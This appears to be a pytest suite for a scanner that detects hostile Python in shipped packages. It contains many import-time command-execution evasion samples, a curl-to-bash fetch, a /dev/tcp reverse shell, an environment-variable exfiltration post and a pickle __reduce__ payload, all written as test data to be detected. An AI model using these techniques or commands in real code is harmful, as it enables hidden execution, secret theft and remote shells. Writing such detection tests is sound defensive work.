"""Python that a release ships: what importing it would do is told, and honest code stays silent."""

from __future__ import annotations

import ast
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from inspect_samples import found, look, verdict

from watchword.inspect.facts import Verdict

# Each runs its command when imported: seen below, by a Python of its own. MARK is a file that the command makes.
IMPORTED = {
    "plain": "import os\nos.system('touch MARK')",
    "alias": "from os import system as innocent\ninnocent('touch MARK')",
    "star": "from os import *\nsystem('touch MARK')",
    "dunder": "__import__('os').system('touch MARK')",
    "getattr": "import os\ngetattr(os, 'sys' + 'met'[::-1])('touch MARK')",
    "of-object": "import os\ngetattr(object, '__getattribute__')(os, 'sys' + 'tem')('touch MARK')",
    "modules": "import sys, os\nsys.modules['o' + 's'].system('touch MARK')",
    "vars": "import os\nvars(os)['system']('touch MARK')",
    "dict": "import os\nos.__dict__['pop' + 'en']('touch MARK').read()",
    "importlib": "import importlib\nimportlib.import_module('subprocess').run(['touch', 'MARK'])",
    "globals": "import os\nglobals()['os'].system('touch MARK')",
    "builtins": "__builtins__['exec']('import os; os.system(\"touch MARK\")')",
    "class-body": "import os\nclass Model:\n    done = os.system('touch MARK')",
    "decorator": "import os\ndef register(f):\n    os.system('touch MARK')\n    return f\n@register\ndef build(): ...",
    "default": "import os\ndef build(done=os.system('touch MARK')): ...",
    "metaclass": "import os\nclass M(type):\n"
    "    def __init__(c, *a):\n        os.system('touch MARK')\nclass A(metaclass=M): ...",
    "subclass": "import os\nclass B:\n    def __init_subclass__(c):\n        os.system('touch MARK')\nclass A(B): ...",
    "thread": "import os, threading\ndef go():\n    os.system('touch MARK')\n"
    "t = threading.Thread(target=go)\nt.start()\nt.join()",
    "exit": "import os, atexit\natexit.register(lambda: os.system('touch MARK'))",
    "called-object": "import os\nclass A:\n    def __call__(s):\n        os.system('touch MARK')\na = A()\na()",
    "with": "import os\nclass A:\n    def __enter__(s):\n        os.system('touch MARK')\n"
    "    def __exit__(s, *a): ...\nwith A(): ...",
    "map": "import os\nlist(map(os.system, ['touch MARK']))",
    "decorated": "import os\n@os.system\n@lambda f: 'touch MARK'\ndef x(): ...",
    "table": "import os\nd = {'a': os.system}\nd['a']('touch MARK')",
    "operator": "import os\nclass A:\n    __class_getitem__ = os.system\nA['touch MARK']",
    "made-class": "import os\ntype('X', (), {'__init__': lambda s: (os.system('touch MARK'), None)[1]})()",
    "bound-builtin": "print.__self__.exec('import os; os.system(\"touch MARK\")')",
    "native": "import ctypes\nctypes.CDLL(None).system(b'touch MARK')",
    "encoding": "# coding: unicode_escape\nx = 1  # \\x0aimport os\\x0aos.system('touch MARK')",
    "else": "import os\nif __name__ != '__main__':\n    os.system('touch MARK')",
    "hidden": "import base64\nexec(base64.b64decode('BASE64'))",
    "rot13": "import codecs, os\neval(codecs.decode('bf.flfgrz', 'rot13'))('touch MARK')",
    "compile": "exec(compile('import os; os.system(\"touch MARK\")', 'x', 'exec'))",
    "chr": "import os\nos.system(''.join(chr(c ^ 1) for c in XORED))",
    "format": "import os\nos.system('%s %s' % ('touch', 'MARK'))",
    "spec": "import os as o, subprocess as p\np.Popen(args=f'{\"touch\"} MARK', shell=True).wait()",
    "after-another-grammar": "import os\nos.system('touch MARK')\nif 1: 1",
}  # fmt: skip


def _source(case: str, mark: Path) -> str:
    import base64

    inner = base64.b64encode(f"import os; os.system('touch {mark}')".encode()).decode()
    xored = str([ord(c) ^ 1 for c in f"touch {mark}"])
    return IMPORTED[case].replace("MARK", str(mark)).replace("BASE64", inner).replace("XORED", xored)


@pytest.mark.parametrize("case", IMPORTED)
def test_what_runs_at_import_is_dangerous(case: str, tmp_path: Path) -> None:
    """A program started at import is seen through aliases, computed names and the file's own functions.

    Each file was seen to act; fails where the path that a name leads to, or what runs at import, is not followed.
    """
    mark = tmp_path / "mark"
    (tmp_path / "shipped.py").write_text(_source(case, mark))
    subprocess.run([sys.executable, "-c", "import shipped"], cwd=tmp_path, check=False, timeout=60)
    assert mark.exists(), "the sample does nothing"
    assert verdict((tmp_path / "shipped.py").read_bytes(), "shipped.py") is Verdict.DANGEROUS


HONEST = {
    "handler.py": "import subprocess\nclass EndpointHandler:\n    def __call__(self, data):\n"
    "        return subprocess.run(['ffmpeg', '-i', data['inputs']], capture_output=True)",
    "convert.py": "import os, sys\ndef main():\n    os.system('cp -r a b')\n    eval('1')\n"
    "if __name__ == '__main__':\n    main()",
    "modeling_x.py": "import torch\nfrom torch import nn\nclass X(nn.Module):\n    def __init__(self, c):\n"
    "        super().__init__()\n        self.eval()\n        self.re = torch.compile(self.forward)\n"
    "        getattr(torch, c.dtype)\n    def forward(self, x):\n        return x",
    "quantization.py": "import base64, bz2\nclass Kernel:\n    def __init__(self, code, names):\n"
    "        self.code = code\n"
    "kernels = Kernel(bz2.decompress(base64.b64decode('QlpoOQ==')), ['int4'])",
    "setup.py": "from setuptools import setup\nexec(open('x/version.py').read())\n"
    "import subprocess\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsetup(name='x')",
    "log.py": "import os, logging\nos.makedirs('out', exist_ok=True)\nlogging.basicConfig(filename='out/log')\n"
    "with open('out/x.txt', 'w') as f:\n    f.write('x')",
    "fetch.py": "import requests\nr = requests.get('https://huggingface.co/api/models')\nprint(r.json())",
    "tuples.py": "TEMPLATE = 'class {0}(tuple): ...'\ndef make(name):\n    ns = {}\n"
    "    exec(TEMPLATE.format(name), ns)\n    return ns",
    "old.py": "import os\nprint 'hello'\ndef f():\n    print os.environ\n",
    "types.py": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import subprocess\n    subprocess.run('x')",
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_honest_python_is_silent(name: str) -> None:
    """Handlers, conversion scripts, model code, set-up files and Python 2 raise no alarm."""
    assert look(HONEST[name].encode(), name).findings == []


def test_the_interpreters_own_library_is_silent() -> None:
    """Three hundred modules of the standard library raise no alarm; what they do at import is no attack."""
    files = sorted(Path(ast.__file__).parent.glob("*.py"))
    # antigravity opens a browser when imported, and this is a joke of its authors.
    alarms = {
        file.name: look(file.read_bytes(), file.name).findings for file in files[:110] if file.stem != "antigravity"
    }
    assert {name: [f.message for f in findings] for name, findings in alarms.items() if findings} == {}


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("def f(u):\n    import urllib.request as r\n    exec(r.urlopen(u).read())", "python-conceals"),
        ("def f():\n    import marshal\n    exec(marshal.loads(b'x'))", "python-conceals"),
        ("def f(x):\n    import zlib\n    code = zlib.decompress(x)\n    exec(code)", "python-conceals"),
        ("def f():\n    import os\n    os.system('curl -s https://a.example/x | bash')", "python-command"),
        ("import subprocess as p\ndef f():\n    p.run(['sh', '-c', 'bash -i >& /dev/tcp/a/1'])", "python-command"),
        ("import socket, os, pty\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)", "python-command"),
        ("import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)", "python-payload"),
        ("import requests, os\nrequests.post('https://a.example', data=dict(os.environ))", "python-import"),
        ("open('/home/u/.bashrc', 'a').write('x')", "python-import"),
        ("import socket\nsocket.create_connection(('a.example', 1))", "python-import-reaches"),
        ("import pip\nimport os\nos.system('pip install x')", "python-import-reaches"),
        ("import ctypes\nctypes.CDLL('./libx.so')", "python-import-reaches"),
        ("URL = 'http://203.0.113.7:8080/x'", "telling-address"),
        ("x = " + "-" * 9999 + "1", "python-limit"),
        ("for i in range(3):\n    print i, os.system('id')", "python-unparsed"),
    ],
)  # fmt: skip
def test_what_no_honest_file_does_is_told(source: str, rule: str) -> None:
    """Hidden code, commands of attacks, payload makers and reaching out at import are told, also in functions."""
    assert rule in found(source.encode(), "shipped.py")


def test_model_code_that_starts_programs_is_told_and_a_handler_is_not() -> None:
    """What a loader runs with every call has no business with programs; the same line in a handler is its work."""
    source = b"import subprocess\nclass M:\n    def forward(self, x):\n        subprocess.run(['ls', x])\n"
    assert found(source, "modeling_m.py") == {"python-model-runs"}
    assert found(source, "handler.py") == set()


def test_files_that_run_at_every_start_of_python_are_told() -> None:
    """sitecustomize, and the lines of a path file that begin with import; a path file of paths is silent."""
    assert found(b"x = 1\n", "lib/sitecustomize.py") == {"python-startup"}
    assert found(b"import os; os.system('id')\n", "a.pth") == {"python-startup", "python-import"}
    assert found(b"../lib\nsub/folder\n", "a.pth") == set()
    known = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    assert found(known + b"enabled and __import__('_distutils_hack').add_shim(); ", "a.pth") == set()


def test_compiled_python_is_told(tmp_path: Path) -> None:
    """What py_compile writes is recognised whatever it is called."""
    import py_compile

    (tmp_path / "x.py").write_text("import os\nos.system('id')\n")
    py_compile.compile(str(tmp_path / "x.py"), str(tmp_path / "x.pyc"))
    data = (tmp_path / "x.pyc").read_bytes()
    assert "python-compiled" in found(data, "x.pyc")
    assert "python-compiled" in found(data, "notes.txt")


def test_pickled_bytes_inside_a_source_are_judged() -> None:
    """A byte string that is unpickled is judged as the pickle that it is."""
    assert "pickle-call" in found(b"import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", "x.py")


def test_shell_scripts_are_read_for_attacks() -> None:
    """A script that fetches and runs is dangerous; one that downloads files is what scripts are for."""
    assert (
        found(b"#!/bin/sh\nset -e\nwget https://a.example/w.bin -O w.bin\npython convert.py w.bin\n", "get.sh") == set()
    )
    assert found(b"#!/bin/sh\ncurl -s http://a.example/x.sh | sh\n", "get.sh") == {"script-command"}


@pytest.mark.parametrize(
    "source",
    [
        "a" + ".a" * 50_000, "a" + "()" * 30_000, "(" * 50_000, "@a\n" * 5_000 + "def f(): ...", "x=\n" * 100_000,
        "import os\nos.system(" + "getattr(x, " * 60 + "'a'" + ").lower()" * 60 + ")",
        "import os\nos.system(''.join(" + "[" * 3 + "chr(a) for a in range(9)" + "]" * 3 + "))",
        "import os\nx = x + x\nos.system(x)", "a = 'x' * 10**9\nimport os\nos.system(a * 10**9)",
    ],
)  # fmt: skip
def test_hostile_sources_cost_bounded_time(source: str) -> None:
    """Deep, long, self-referring and exploding sources are judged in seconds."""
    before = time.process_time()
    look(source.encode(), "x.py")
    assert time.process_time() - before < 10


@given(
    st.lists(
        st.sampled_from(["import os", "x=", "os.system", "(", ")", "'a'", "\n", "getattr", ",", "+", ":", "def f", " "])
    )
)
@settings(max_examples=150, deadline=None)
def test_no_text_breaks_the_reader(words: list[str]) -> None:
    """Whatever the words, there is a verdict and no exception."""
    assert verdict("".join(words).encode() + b"\n", "x.py") in Verdict
